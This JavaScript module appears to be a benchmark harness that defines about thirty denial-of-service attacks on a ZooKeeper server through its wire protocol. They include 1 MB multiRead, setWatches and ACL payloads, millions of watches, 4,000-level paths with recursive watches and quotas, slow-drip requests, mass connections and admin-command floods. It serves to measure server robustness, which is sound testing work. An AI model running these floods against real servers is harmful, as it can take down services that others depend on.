// What one client can ask of a server that costs it much. Each attack first makes what it needs, and then asks, over and
// over, until it is told to end.
import { connect } from 'node:net';
import { ADMIN_ATTACKS } from './admin-port.mjs';
import {
  Attacker,
  Bytes,
  createRecord,
  FRAME_BYTES_MAX,
  frameOf,
  OPEN_ACL,
  Op,
  pathRecord,
  watchableRecord,
} from './wire.mjs';

/** The parent of the znodes that `fill` makes. */
const MANY = '/many/flat';

/**
 * `make` connects and prepares; `attack` asks until `isOver()`. `{ port, adminPort, scale }`: the sizes are those of the title
 * times `scale`, which is 1 unless the bench is in a hurry.
 *
 * @typedef {{ name: string, make(world: object): Promise<object>, attack(made: object, isOver: () => boolean): Promise<void> }} Attack
 */
export const ATTACKS = [
  {
    name: 'nothing',
    make: async () => ({}),
    attack: async (_made, isOver) => {
      while (!isOver()) await new Promise((resolve) => setTimeout(resolve, 20));
    },
  },
  {
    name: 'multiRead of 5,000 × 1 MB',
    async make({ port }) {
      const client = await session(port);
      await ensure(client, '/big', Buffer.alloc(1_000_000));
      const record = new Bytes();
      for (let i = 0; i < 5000; i++) record.part(Op.getData).text('/big').byte(0);
      return { client, frames: [frameOf(Op.multiRead, record.endOfParts())], depth: 2 };
    },
    attack: flood,
  },
  {
    name: 'multiRead of 10 × 1 MB',
    async make({ port }) {
      const client = await session(port);
      await ensure(client, '/big', Buffer.alloc(1_000_000));
      const record = new Bytes();
      for (let i = 0; i < 10; i++) record.part(Op.getData).text('/big').byte(0);
      return { client, frames: [frameOf(Op.multiRead, record.endOfParts())], depth: 4 };
    },
    attack: flood,
  },
  {
    name: 'multiRead, 1 MB of small reads',
    async make({ port, znodes }) {
      const client = await session(port);
      const record = new Bytes();
      for (let i = 0; record.length < FRAME_BYTES_MAX - 64; i++) {
        record
          .part(Op.getData)
          .text(znodeOf((i * 7919) % znodes))
          .byte(0);
      }
      return { client, frames: [frameOf(Op.multiRead, record.endOfParts())], depth: 4 };
    },
    attack: flood,
  },
  {
    name: 'getChildren of 1,000,000',
    make: async ({ port }) => ({
      client: await session(port),
      frames: [frameOf(Op.getChildren, watchableRecord(MANY))],
      depth: 4,
    }),
    attack: flood,
  },
  {
    name: 'getAllChildrenNumber of 1,000,000',
    make: async ({ port }) => ({
      client: await session(port),
      frames: [frameOf(Op.getAllChildrenNumber, pathRecord('/many'))],
      depth: 200,
    }),
    attack: flood,
  },
  {
    name: 'getEphemerals by prefix of 200,000',
    async make({ port, scale }) {
      const client = await session(port);
      await createMany(client, '/ephemerals', 200_000 * scale, { flags: 1 });
      return { client, frames: [frameOf(Op.getEphemerals, pathRecord('/none'))], depth: 200 };
    },
    attack: flood,
    unmake: endSession,
  },
  {
    name: 'getEphemerals, all 200,000',
    async make({ port, scale }) {
      const client = await session(port);
      await createMany(client, '/ephemerals', 200_000 * scale, { flags: 1 });
      return { client, frames: [frameOf(Op.getEphemerals, pathRecord('/'))], depth: 4 };
    },
    attack: flood,
    unmake: endSession,
  },
  {
    name: 'end of sessions with 20,000 ephemerals',
    async make({ port, scale }) {
      const client = await session(port);
      await ensure(client, '/ends');
      return { port, parent: client, count: 20_000 * scale };
    },
    async attack({ port, count }, isOver) {
      while (!isOver()) {
        const client = await session(port);
        await createMany(client, '/ends', count, { flags: 1 }, isOver);
        await client.ask(Op.closeSession).catch(() => undefined);
        client.drop();
      }
    },
  },
  {
    name: 'setWatches, 1 MB of paths',
    async make({ port, znodes }) {
      const client = await session(port);
      const paths = pathsOf(FRAME_BYTES_MAX - 64, (i) => znodeOf((i * 7919) % znodes));
      const record = new Bytes()
        .long(2n ** 62n)
        .texts(paths)
        .texts([])
        .texts([]);
      return { client, frames: [frameOf(Op.setWatches, record, -8)], depth: 4 };
    },
    attack: flood,
  },
  {
    name: 'setWatches, 1 MB of events',
    async make({ port }) {
      const client = await session(port);
      const paths = pathsOf(FRAME_BYTES_MAX - 64, () => '/x');
      const record = new Bytes().long(0).texts(paths).texts([]).texts([]);
      return { client, frames: [frameOf(Op.setWatches, record, -8)], depth: 4 };
    },
    attack: flood,
  },
  {
    name: 'a connection with 1,000,000 watches dropped',
    make: async ({ port, scale }) => ({ port, frames: watchFrames(1_000_000 * scale) }),
    async attack({ port, frames }, isOver) {
      while (!isOver()) {
        const client = await session(port);
        for (const frame of frames) client.send(frame);
        await client.answered(frames.length);
        client.drop();
        await client.closed();
      }
    },
  },
  {
    name: 'addWatch and removeWatches',
    async make({ port }) {
      const client = await session(port);
      const frames = [];
      for (let i = 0; i < 2000; i++) {
        frames.push(frameOf(Op.addWatch, pathRecord(`/w${i}`).int(1)));
        frames.push(frameOf(Op.removeWatches, pathRecord(`/w${i}`).int(3)));
      }
      return { client, frames: [Buffer.concat(frames)], together: frames.length, depth: 8 * frames.length };
    },
    attack: flood,
  },
  {
    name: 'pings',
    async make({ port }) {
      const client = await session(port);
      const frames = new Array(8000).fill(frameOf(Op.ping, new Bytes(), -2));
      return { client, frames: [Buffer.concat(frames)], together: frames.length, depth: 4 * frames.length };
    },
    attack: flood,
  },
  {
    name: 'auth packets of 1 MB',
    async make({ port }) {
      const credentials = Buffer.alloc(FRAME_BYTES_MAX - 64, 'a');
      const frame = frameOf(Op.auth, new Bytes().int(0).text('digest').data(credentials), -4);
      return { client: await session(port), frames: [frame], depth: 8 };
    },
    attack: flood,
  },
  {
    name: 'create with `auth` entries of 90 identities',
    async make({ port }) {
      const client = await session(port);
      for (let i = 0; i < 90; i++) {
        client.send(
          frameOf(
            Op.auth,
            new Bytes()
              .int(0)
              .text('digest')
              .data(Buffer.from(`u${i}:p`)),
            -4,
          ),
        );
      }
      await client.answered(client.requests);
      const entries = pathsOf(FRAME_BYTES_MAX - 200, (i) => `auth${i}`, 12).map((id, i) => ({
        perms: (i % 31) + 1,
        scheme: 'auth',
        id,
      }));
      return {
        client,
        frames: [frameOf(Op.create, createRecord('/auth/none', undefined, { acl: entries }))],
        depth: 2,
      };
    },
    attack: flood,
  },
  {
    name: 'create with 1 MB of `ip` entries',
    async make({ port }) {
      const acl = pathsOf(FRAME_BYTES_MAX - 200, ipOf, 14).map((id) => ({ perms: 31, scheme: 'ip', id }));
      return {
        client: await session(port),
        frames: [frameOf(Op.create, createRecord('/none/none', undefined, { acl }))],
        depth: 2,
      };
    },
    attack: flood,
  },
  {
    name: 'reads behind a long ACL',
    async make({ port }) {
      const client = await session(port);
      const path = await createWithLongAcl(client);
      const frames = new Array(200).fill(frameOf(Op.getData, watchableRecord(path)));
      return { client, frames: [Buffer.concat(frames)], together: frames.length, depth: 5 * frames.length };
    },
    attack: flood,
  },
  {
    name: 'writes to a path of 4,000 levels, a recursive watch elsewhere',
    async make({ port, scale }) {
      const client = await session(port);
      await client.ask(Op.addWatch, pathRecord('/somewhere/else').int(1));
      const path = await createDeep(client, 4000 * scale);
      const set = new Bytes().text(path).data(Buffer.from('x')).int(-1);
      return { client, frames: [frameOf(Op.setData, set)], depth: 100 };
    },
    attack: flood,
  },
  {
    name: 'writes to a path of 4,000 levels, a recursive watch at each',
    async make({ port, scale }) {
      const client = await session(port);
      const path = await createDeep(client, 4000 * scale);
      for (let i = 1; i <= 4000 * scale; i++) client.send(frameOf(Op.addWatch, pathRecord('/d'.repeat(i)).int(1)));
      await client.answered(client.requests);
      const set = new Bytes().text(path).data(Buffer.from('x')).int(-1);
      return { client, frames: [frameOf(Op.setData, set)], depth: 100 };
    },
    attack: flood,
  },
  {
    name: 'creates and deletes below 4,000 levels, a recursive watch and a quota at each 40th',
    async make({ port, scale }) {
      const client = await session(port);
      const path = await createDeep(client, 4000 * scale);
      for (let i = 40; i <= 4000 * scale; i += 40) {
        client.send(frameOf(Op.addWatch, pathRecord('/d'.repeat(i)).int(1)));
      }
      await createDeep(client, 4000 * scale, '/zookeeper/quota');
      for (let i = 40; i <= 4000 * scale; i += 40) await setQuota(client, '/d'.repeat(i));
      const frames = [
        frameOf(Op.create, createRecord(`${path}/x`)),
        frameOf(Op.delete, new Bytes().text(`${path}/x`).int(-1)),
      ];
      return { client, frames, depth: 100, path };
    },
    attack: flood,
    // Every write of the attacks behind it would look for a quota.
    async unmake({ client, path }) {
      for (let i = 40; i <= path.length / 2; i += 40) {
        const limits = `${QUOTAS}${'/d'.repeat(i)}/zookeeper_limits`;
        client.send(frameOf(Op.delete, new Bytes().text(limits).int(-1)));
      }
      await client.answered(client.requests);
    },
  },
  {
    name: 'a quota of 1,000,000 znodes, set again and again',
    async make({ port }) {
      const client = await session(port);
      await ensure(client, `${QUOTAS}/many`);
      await setQuota(client, '/many');
      const stats = `${QUOTAS}/many/zookeeper_stats`;
      const frames = [
        frameOf(Op.delete, new Bytes().text(stats).int(-1)),
        frameOf(Op.create, createRecord(stats, Buffer.from('count=0,bytes=0'))),
      ];
      return { client, frames, depth: 100 };
    },
    attack: flood,
    async unmake({ client }) {
      await client.ask(Op.delete, new Bytes().text(`${QUOTAS}/many/zookeeper_limits`).int(-1));
    },
  },
  {
    name: 'exists of paths of 1 MB',
    async make({ port }) {
      const path = '/d'.repeat((FRAME_BYTES_MAX - 64) / 2);
      return { client: await session(port), frames: [frameOf(Op.exists, watchableRecord(path))], depth: 8 };
    },
    attack: flood,
  },
  {
    name: 'multi, 1 MB of creates and deletes',
    async make({ port }) {
      const client = await session(port);
      await ensure(client, '/multi');
      const record = new Bytes();
      for (let i = 0; record.length < FRAME_BYTES_MAX - 200; i++) {
        record.part(Op.create).text(`/multi/${i}`).data(Buffer.alloc(0)).acl(OPEN_ACL).int(0);
        record.part(Op.delete).text(`/multi/${i}`).int(-1);
      }
      return { client, frames: [frameOf(Op.multi, record.endOfParts())], depth: 2 };
    },
    attack: flood,
  },
  {
    name: 'setData of 1 MB, 64 at a time',
    async make({ port }) {
      const client = await session(port);
      await ensure(client, '/set');
      const set = new Bytes().text('/set').data(Buffer.alloc(1_000_000)).int(-1);
      return { client, frames: [frameOf(Op.setData, set)], depth: 64 };
    },
    attack: flood,
  },
  {
    name: 'multis of 100 setData',
    async make({ port }) {
      const client = await session(port);
      await ensure(client, '/multi');
      const record = new Bytes();
      for (let i = 0; i < 100; i++) record.part(Op.setData).text('/multi').data(Buffer.alloc(0)).int(-1);
      const frames = new Array(50).fill(frameOf(Op.multi, record.endOfParts()));
      return { client, frames: [Buffer.concat(frames)], together: frames.length, depth: 4 * frames.length };
    },
    attack: flood,
  },
  {
    name: 'multi of 2,000 setData, 50 watchers',
    async make({ port, scale }) {
      const writer = await session(port);
      await ensure(writer, '/told');
      const watchers = await watchersOf(port, '/told', 50);
      const record = new Bytes();
      for (let i = 0; i < 2000 * scale; i++) record.part(Op.setData).text('/told').data(Buffer.alloc(0)).int(-1);
      return { client: writer, frames: [frameOf(Op.multi, record.endOfParts())], depth: 1, watchers };
    },
    attack: flood,
  },
  {
    name: '100 connections, a multiRead of 10 × 1 MB each',
    async make({ port, scale }) {
      const client = await session(port);
      await ensure(client, '/big', Buffer.alloc(1_000_000));
      const record = new Bytes();
      for (let i = 0; i < 10; i++) record.part(Op.getData).text('/big').byte(0);
      const frame = frameOf(Op.multiRead, record.endOfParts());
      const clients = await Promise.all(Array.from({ length: 100 * scale }, () => session(port)));
      return { clients, frames: [frame], depth: 1 };
    },
    async attack({ clients, ...world }, isOver) {
      await Promise.all(clients.map((client) => flood({ client, ...world }, isOver)));
    },
  },
  {
    name: '100 connections, getData of 1 MB',
    async make({ port, scale }) {
      const client = await session(port);
      await ensure(client, '/big', Buffer.alloc(1_000_000));
      const frame = frameOf(Op.getData, watchableRecord('/big'));
      const clients = await Promise.all(Array.from({ length: 100 * scale }, () => session(port)));
      return { clients, frames: [frame], depth: 1 };
    },
    async attack({ clients, ...world }, isOver) {
      await Promise.all(clients.map((client) => flood({ client, ...world }, isOver)));
    },
  },
  {
    name: 'first reads behind a long ACL, by 90 identities each',
    async make({ port }) {
      const client = await session(port);
      return { port, client, path: await createWithLongAcl(client) };
    },
    async attack({ port, path }, isOver) {
      while (!isOver()) {
        const client = await session(port);
        for (let i = 0; i < 90; i++) client.send(authFrame(`${i}:p`));
        client.send(frameOf(Op.getData, watchableRecord(path)));
        await client.answered(client.requests);
        client.drop();
      }
    },
  },
  {
    name: 'a request of 1 MB in pieces of 100 bytes',
    async make({ port }) {
      const client = await session(port);
      const record = new Bytes()
        .text('/none')
        .data(Buffer.alloc(FRAME_BYTES_MAX - 64))
        .int(-1);
      return { client, frame: frameOf(Op.setData, record) };
    },
    async attack({ client, frame }, isOver) {
      while (!isOver()) {
        for (let at = 0; at < frame.length && !isOver(); at += 100) {
          client.sendRaw(frame.subarray(at, at + 100));
          if (at % 10_000 === 0) await new Promise((resolve) => setImmediate(resolve));
        }
      }
      client.drop();
    },
  },
  {
    name: 'wchp, with 1,000,000 watches',
    async make({ port, scale }) {
      const client = await session(port);
      const frames = watchFrames(1_000_000 * scale);
      for (const frame of frames) client.send(frame);
      await client.answered(frames.length);
      return { port, client };
    },
    async attack({ port }, isOver) {
      while (!isOver()) await word(port, 'wchp');
    },
  },
  {
    name: 'cons, dump and mntr, with 5,000 connections',
    async make({ port, scale }) {
      const clients = await sessions(port, 5000 * scale);
      return { port, client: clients[0], clients };
    },
    async attack({ port }, isOver) {
      for (let i = 0; !isOver(); i++) await word(port, ['cons', 'dump', 'mntr'][i % 3]);
    },
  },
  {
    name: 'one write, 5,000 watchers',
    async make({ port, scale }) {
      const writer = await session(port);
      await ensure(writer, '/watched');
      const watchers = await watchersOf(port, '/watched', 5000 * scale);
      const set = new Bytes().text('/watched').data(Buffer.alloc(0)).int(-1);
      return { client: writer, frames: [frameOf(Op.setData, set)], depth: 2, watchers };
    },
    attack: flood,
  },
  ...ADMIN_ATTACKS,
];

const session = (port) => Attacker.connect(port);

async function sessions(port, count) {
  const clients = [];
  while (clients.length < count) {
    const missing = Math.min(100, count - clients.length);
    clients.push(...(await Promise.all(Array.from({ length: missing }, () => session(port)))));
  }
  return clients;
}

/** Connections that are told of each change of a znode. */
async function watchersOf(port, path, count) {
  const watchers = await sessions(port, count);
  for (const watcher of watchers) watcher.send(frameOf(Op.addWatch, pathRecord(path).int(0)));
  await Promise.all(watchers.map((watcher) => watcher.answered(1)));
  return watchers;
}

function authFrame(credentials) {
  return frameOf(Op.auth, new Bytes().int(0).text('digest').data(Buffer.from(credentials)), -4);
}

function flood({ client, frames, depth, together = 1 }, isOver) {
  let at = 0;
  return client.flood(depth, () => frames[at++ % frames.length], isOver, together);
}

async function ensure(client, path, data) {
  const error = await client.ask(Op.create, createRecord(path, data));
  if (error !== 0 && error !== NODE_EXISTS) throw new Error(`create ${path} failed with ${error}`);
}

const NODE_EXISTS = -110;

const QUOTAS = '/zookeeper/quota';

/** Limits that nothing reaches; the znode `/zookeeper/quota<path>` must be there. */
async function setQuota(client, path) {
  await ensure(client, `${QUOTAS}${path}/zookeeper_limits`, Buffer.from('count=1000000000,bytes=-1'));
  await ensure(client, `${QUOTAS}${path}/zookeeper_stats`, Buffer.from('count=0,bytes=0'));
}

/** Creates `/d/d/…` below a path. @returns the deepest, so many levels below it */
async function createDeep(client, levels, top = '') {
  let path = top;
  for (let i = 0; i < levels; i++) {
    path += '/d';
    client.send(frameOf(Op.create, createRecord(path)));
    if (i % 100 === 99) await client.answered(client.requests);
  }
  await client.answered(client.requests);
  return path;
}

/** Creates `<parent>/<session>-0` and so on, many at a time. */
async function createMany(client, parent, count, options, isOver = () => false) {
  await ensure(client, parent);
  const prefix = `${parent}/${Math.floor(Math.random() * 1e9)}-`;
  for (let i = 0; i < count && !isOver(); i++) {
    client.send(frameOf(Op.create, createRecord(prefix + i, undefined, options)));
    if (i % 500 === 499) await client.answered(client.requests - 250);
  }
  await client.answered(client.requests);
}

async function endSession({ client }) {
  await client.ask(Op.closeSession).catch(() => undefined);
}

/** Creates the znodes that attacks read, a thousand in a txn. */
export async function fill(port, count) {
  const client = await session(port);
  await ensure(client, '/many');
  await ensure(client, MANY);
  for (let from = 0; from < count; from += 1000) {
    const record = new Bytes();
    for (let i = from; i < Math.min(from + 1000, count); i++) {
      record.part(Op.create).text(znodeOf(i)).data(Buffer.alloc(0)).acl(OPEN_ACL).int(0);
    }
    client.send(frameOf(Op.multi, record.endOfParts()));
    await client.answered(client.requests - 4);
  }
  await client.answered(client.requests);
  await client.demand(Op.exists, watchableRecord(znodeOf(count - 1)));
  client.drop();
}

function znodeOf(i) {
  return `${MANY}/n${i}`;
}

/** Texts that need so many bytes together, `extra` more for each besides its length and itself. */
function pathsOf(bytes, textOf, extra = 0) {
  const texts = [];
  for (let used = 0; ; ) {
    const text = textOf(texts.length);
    used += 4 + text.length + extra;
    if (used > bytes) return texts;
    texts.push(text);
  }
}

const ipOf = (i) => `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`;

/** Frames of setWatches that leave so many watches for znodes to come. */
function watchFrames(count) {
  const frames = [];
  for (let from = 0; from < count; ) {
    const paths = pathsOf(FRAME_BYTES_MAX - 64, (i) => `/w${from + i}`).slice(0, count - from);
    from += paths.length;
    frames.push(frameOf(Op.setWatches, new Bytes().long(0).texts([]).texts(paths).texts([]), -8));
  }
  return frames;
}

/** With as many `ip` entries as the server takes; none of them is this client's. */
async function createWithLongAcl(client) {
  for (let count = 40_000; count > 10; count = Math.floor(count * 0.6)) {
    const path = `/acl-${Math.floor(Math.random() * 1e9)}`;
    const acl = Array.from({ length: count }, (_, i) => ({ perms: 31, scheme: 'ip', id: ipOf(i) }));
    if ((await client.ask(Op.create, createRecord(path, undefined, { acl }))) === 0) return path;
  }
  throw new Error('no long ACL is accepted');
}

function word(port, text) {
  return new Promise((resolve) => {
    const socket = connect({ port, host: '127.0.0.1' });
    socket.on('connect', () => socket.write(text));
    socket.on('data', () => {});
    socket.on('error', () => {});
    socket.on('close', resolve);
  });
}
